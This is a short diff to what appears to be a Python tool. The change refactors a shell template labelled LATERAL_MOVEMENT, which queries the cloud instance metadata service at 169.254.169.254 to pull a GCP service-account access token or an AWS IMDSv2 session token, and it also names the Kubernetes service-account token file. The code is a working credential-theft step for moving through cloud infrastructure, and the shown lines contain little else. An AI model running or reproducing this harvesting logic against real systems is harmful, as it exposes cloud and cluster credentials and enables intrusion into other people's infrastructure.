@@ -13,7 +13,8 @@ IMDS = "http://169.254.169.254"
 TOKEN_FILE = "/var/run/secrets/kubernetes.io/serviceaccount/token"
 
 LATERAL_MOVEMENT = r"""
-if token=$(curl -s -H "Metadata-Flavor: Google" "%(imds)s/computeMetadata/v1/instance/service-accounts/default/token"| grep -Po '"access_token":"\K.*?(?=")'); then
+gcp_url="%(imds)s/computeMetadata/v1/instance/service-accounts/default/token"
+if token=$(curl -s -H "Metadata-Flavor: Google" "$gcp_url"| grep -Po '"access_token":"\K.*?(?=")'); then
     cloud="GCP"
 elif session=$(curl -sf -X PUT "%(imds)s/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 21600"); then
     cloud="AWS"
